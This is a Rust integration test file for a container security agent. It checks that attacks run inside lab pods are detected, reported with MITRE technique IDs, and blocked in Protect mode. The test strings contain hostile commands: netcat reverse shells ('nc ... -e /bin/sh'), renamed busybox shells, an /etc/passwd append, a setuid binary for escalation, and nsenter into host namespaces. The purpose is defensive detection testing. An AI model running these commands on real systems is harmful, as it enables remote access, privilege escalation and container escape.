//! What attacks are made of, on real pods: told with its technique, whatever the tool is called, and who ran what.

use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use nv_scene::{Scene, TOOL, WEB_GROUP};
use serde_json::Value;

/// How soon a deed must be in the REST API, on a machine that does other things as well.
const SOON: Duration = Duration::from_secs(5);
/// How soon it is promised.
const PROMISED: Duration = Duration::from_secs(1);

fn text<'a>(record: &'a Value, key: &str) -> &'a str {
    record.get(key).and_then(Value::as_str).unwrap_or_default()
}

/// The newest incident of this behaviour by this executable, or by this command.
fn incident(answer: &Value, behaviour: &str, by: &str) -> Option<Value> {
    let list = answer.get("incidents")?.as_array()?;
    list.iter()
        .find(|record| {
            text(record, "behaviour") == behaviour
                && (text(record, "proc_path") == by || text(record, "proc_cmd") == by)
        })
        .cloned()
}

/// Waits for an incident, and checks what every one of them says.
async fn told(
    scene: &Scene,
    behaviour: &str,
    path: &str,
    name: &str,
    attack: &str,
) -> Result<(Value, Duration)> {
    let (record, took) = scene
        .api
        .wait_for("/v1/log/incident", SOON, |answer| incident(answer, behaviour, path))
        .await
        .with_context(|| format!("no incident of {behaviour} by {path}"))?;
    ensure!(text(&record, "name") == name, "{record}");
    ensure!(text(&record, "mitre_attack") == attack, "{record}");
    ensure!(text(&record, "workload_id") == scene.client.container().id, "{record}");
    Ok((record, took))
}

/// A process list of the client's container.
async fn processes(scene: &Scene, route: &str) -> Result<Vec<Value>> {
    let path = format!("/v1/workload/{}/{route}", scene.client.container().id);
    let answer = scene.api.get(&path).await?;
    let list = answer.get("processes").and_then(Value::as_array);
    list.cloned().with_context(|| format!("no list of processes: {answer}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reverse_shell_is_told_within_a_second_and_stopped_in_protect() -> Result<()> {
    let scene = Scene::start("shell").await?;
    let echo = scene.echo_address()?;
    // The shell gets back what it says, and says nothing.
    let attack = format!("timeout 4 nc {echo} 7 -e /bin/sh; true");
    let command = ["/bin/sh", "-c", &attack];
    let (ran, shell) = tokio::join!(
        scene.run(&command),
        told(&scene, "remote_shell", "/bin/sh", "Container.Suspicious.Process", "T1059.004")
    );
    ran?;
    let (record, took) = shell?;
    ensure!(text(&record, "action") == "violate" && text(&record, "level") == "Warning", "{record}");
    println!("reverse shell told {took:?} after the exec was asked for");
    ensure!(took < PROMISED + SOON / 5, "told after {took:?}");
    told(&scene, "network_tool", "/bin/busybox", "Container.Suspicious.Process", "T1095").await?;

    // In Protect the profile stops what it does not list, and the incident says so.
    scene.operate().await?;
    scene.wait_learned().await?;
    scene.set_mode("Protect").await?;
    let attack = format!("cp /bin/busybox /tmp/shell; timeout 4 nc {echo} 7 -e /tmp/shell; true");
    scene.run(&["/bin/sh", "-c", &attack]).await?;
    let (record, _) =
        told(&scene, "remote_shell", "/tmp/shell", "Container.Suspicious.Process", "T1059.004").await?;
    ensure!(text(&record, "action") == "deny" && text(&record, "level") == "Critical", "{record}");
    ensure!(text(&record, "message").starts_with("Stopped"), "{record}");
    scene.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn renamed_tools_set_id_programs_programs_in_memory_and_scans_are_told_by_what_they_do() -> Result<()> {
    let scene = Scene::start("behave").await?;
    let echo = scene.echo_address()?;

    // Another name, another place: still someone else's program on a connection.
    let renamed = format!("cp /bin/busybox /tmp/x; timeout 4 nc {echo} 7 -e /tmp/x; true");
    scene.run(&["/bin/sh", "-c", &renamed]).await?;
    told(&scene, "remote_shell", "/tmp/x", "Container.Suspicious.Process", "T1059.004").await?;
    told(&scene, "new_executable", "/tmp/x", "Container.Suspicious.Process", "T1105").await?;

    // A user becomes root by a set-id program that is not of the image.
    let setuid = "cp /bin/attacker /tmp/up; chmod 4755 /tmp/up; chmod 1777 /tmp; \
                  busybox su -s /bin/sh nobody -c '/tmp/up write /tmp/risen; true'; true";
    let passwd = "grep -q nobody /etc/passwd || echo nobody:x:65534:65534::/:/bin/sh >> /etc/passwd";
    scene.run(&["/bin/sh", "-c", &format!("{passwd}; {setuid}")]).await?;
    ensure!(scene.has_file("/tmp/risen"), "the set-id program did not run");
    let (record, _) =
        told(&scene, "set_id_escalation", "/tmp/up", "Container.Privilege.Escalation", "T1548.001").await?;
    ensure!(text(&record, "level") == "Critical", "{record}");
    ensure!(record.get("proc_real_uid").and_then(Value::as_i64) == Some(65534), "{record}");
    ensure!(record.get("proc_effective_uid").and_then(Value::as_i64) == Some(0), "{record}");

    scene.run(&["/bin/attacker", "memfd", "/tmp/in-memory"]).await?;
    let memory = |answer: &Value| {
        let list = answer.get("incidents")?.as_array()?;
        list.iter().find(|record| text(record, "behaviour") == "fileless").cloned()
    };
    let (record, _) = scene.api.wait_for("/v1/log/incident", SOON, memory).await?;
    ensure!(text(&record, "mitre_attack") == "T1620", "{record}");

    // The same path, another program.
    scene.run(&[TOOL, "write", "/tmp/report"]).await?;
    tokio::time::sleep(Duration::from_secs(1)).await;
    scene.run(&["/bin/sh", "-c", &format!("cat /bin/busybox > {TOOL}; {TOOL}; true")]).await?;
    told(&scene, "changed_executable", TOOL, "Container.Suspicious.Process", "T1554").await?;

    // Many ports of one address, by a program with a harmless name.
    scene.run(&["/bin/attacker", "scan", &scene.web_address()?, "9000", "9040"]).await?;
    told(&scene, "network_scan", "/bin/attacker", "Container.Suspicious.Process", "T1046").await?;
    scene.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn who_runs_and_who_ran_is_listed_with_parents_arguments_and_ends() -> Result<()> {
    let scene = Scene::start("tree").await?;
    let command = [
        "/bin/sh",
        "-c",
        "sleep 9 > /dev/null 2>&1 & /bin/attacker read /nothing --token hunter2; sleep 6; true",
    ];
    let looked = async {
        tokio::time::sleep(Duration::from_secs(3)).await;
        Ok::<_, anyhow::Error>((
            processes(&scene, "process").await?,
            processes(&scene, "process_history").await?,
        ))
    };
    let (ran, looked) = tokio::join!(scene.run(&command), looked);
    ran?;
    let (living, history) = looked?;
    let sleeping = living
        .iter()
        .find(|process| text(process, "cmdline") == "sleep 9")
        .with_context(|| format!("the process in the background is not listed: {living:?}"))?;
    ensure!(text(sleeping, "status") == "Sleeping", "{sleeping}");
    ensure!(text(sleeping, "sha256").len() == 64, "{sleeping}");
    ensure!(sleeping.get("root") == Some(&Value::Bool(true)), "{sleeping}");
    let number = |process: &Value, key: &str| process.get(key).and_then(Value::as_u64).unwrap_or_default();
    let parent = living.iter().find(|process| number(process, "pid") == number(sleeping, "parent"));
    ensure!(parent.is_some_and(|shell| text(shell, "path") == "/bin/busybox"), "{living:?}");
    let first = u64::from(scene.client.container().pid);
    ensure!(living.iter().any(|process| number(process, "pid") == first), "{living:?}");
    ensure!(living.iter().all(|process| process.get("end_timestamp").is_none()), "{living:?}");

    let ended = history
        .iter()
        .find(|process| text(process, "path") == "/bin/attacker" && text(process, "status") == "Exited")
        .with_context(|| format!("the program that ended is not in the history: {history:?}"))?;
    ensure!(number(ended, "exit_code") == 2, "{ended}");
    ensure!(!text(ended, "cmdline").contains("hunter2"), "{ended}");
    ensure!(number(ended, "parent") == number(sleeping, "parent"), "{ended}");
    ensure!(history.len() > living.len(), "the history has the living ones too");

    let web = scene.api.get(&format!("/v1/workload/{}", scene.web.container().id)).await?;
    ensure!(web.pointer("/workload/service_group").and_then(Value::as_str) == Some(WEB_GROUP), "{web}");
    let answer = scene.api.get(&format!("/v1/workload/{}/process", scene.web.container().id)).await?;
    let servers = answer.get("processes").and_then(Value::as_array).cloned().unwrap_or_default();
    ensure!(servers.iter().any(|process| text(process, "cmdline").contains("httpd -f")), "{servers:?}");
    scene.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_container_that_enters_the_hosts_file_system_is_an_escape() -> Result<()> {
    let scene = Scene::start("escape").await?;
    let container = nv_lab::ContainerSpec::new("main", nv_scene::CLIENT_IMAGE, &[]).privileged();
    let spec = nv_lab::PodSpec::new("agent-6c8d7b9f4-p0w3r", nv_scene::NAMESPACE).host_processes();
    let pod = scene.lab.run_pod(&spec.container(container)).await?;
    let known = format!("/v1/workload/{}", pod.container().id);
    scene.api.wait_for(&known, SOON, |answer| answer.get("workload").map(drop)).await?;
    // Any process of the host leads there; this one is.
    let escape = format!("nsenter -t {} -m /bin/true", std::process::id());
    let entered = scene.lab.exec(pod.container(), &["/bin/sh", "-c", &escape]).await?;
    ensure!(entered.exit_code == 0, "{entered:?}");
    let escaped = |answer: &Value| {
        let list = answer.get("incidents")?.as_array()?;
        list.iter().find(|record| text(record, "behaviour") == "namespace_escape").cloned()
    };
    let (record, _) = scene.api.wait_for("/v1/log/incident", SOON, escaped).await?;
    ensure!(text(&record, "name") == "Container.Privilege.Escalation", "{record}");
    ensure!(text(&record, "level") == "Critical" && text(&record, "mitre_attack") == "T1611", "{record}");
    ensure!(text(&record, "workload_id") == pod.container().id, "{record}");
    scene.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_container_asks_the_kernel_for_is_told_and_how_it_was_answered() -> Result<()> {
    let scene = Scene::start("deeds").await?;
    let container = nv_lab::ContainerSpec::new("main", nv_scene::CLIENT_IMAGE, &[]).privileged();
    let spec = nv_lab::PodSpec::new("agent-6c8d7b9f4-d33d5", nv_scene::NAMESPACE);
    let pod = scene.lab.run_pod(&spec.container(container)).await?;
    let (free, bound) = (pod.container(), scene.client.container());
    scene.lab.exec(free, &["/bin/mkdir", "-p", "/tmp/m"]).await?;
    for command in [
        &["/bin/mount", "-t", "tmpfs", "none", "/tmp/m"][..],
        &["/bin/unshare", "-m", "-i", "/bin/true"],
        &["/bin/nsenter", "-t", "1", "-u", "/bin/true"],
    ] {
        let done = scene.lab.exec(free, command).await?;
        ensure!(done.exit_code == 0, "{command:?}: {done:?}");
    }
    let refused = scene.lab.exec(bound, &["/bin/mount", "-t", "tmpfs", "none", "/tmp"]).await?;
    ensure!(refused.exit_code != 0, "a container without privileges mounts: {refused:?}");
    for (container, behaviour, says) in [
        (free, "mount", r#"mounts a file system "tmpfs" of "none" on "/tmp/m""#),
        (free, "namespace_change", "makes namespaces of its own: mount, ipc"),
        (free, "namespace_change", "enters namespaces that are there: uts"),
        (bound, "mount", r#"on "/tmp", and is not allowed to by the kernel"#),
    ] {
        let is_it = |record: &&Value| {
            text(record, "behaviour") == behaviour
                && text(record, "workload_id") == container.id
                && text(record, "message").contains(says)
        };
        let find = |answer: &Value| answer.get("incidents")?.as_array()?.iter().find(is_it).cloned();
        let (record, _) = scene
            .api
            .wait_for("/v1/log/incident", SOON, find)
            .await
            .with_context(|| format!("it is not told that a container {says}"))?;
        ensure!(text(&record, "name") == "Container.Suspicious.Process", "{record}");
        ensure!(text(&record, "mitre_attack") == "T1611", "{record}");
        ensure!(text(&record, "proc_path") == "/bin/busybox", "{record}");
    }
    // What the runtime did to start containers is not their doing.
    let answer = scene.api.get("/v1/log/incident").await?;
    let wrong = |record: &&Value| {
        ["mount", "namespace_change", "escalation"].contains(&text(record, "behaviour"))
            && (text(record, "proc_path") != "/bin/busybox"
                || text(record, "message").contains("root file system"))
    };
    let wrong =
        answer.get("incidents").and_then(Value::as_array).and_then(|list| list.iter().find(wrong).cloned());
    ensure!(wrong.is_none(), "{wrong:?}");
    scene.stop().await
}
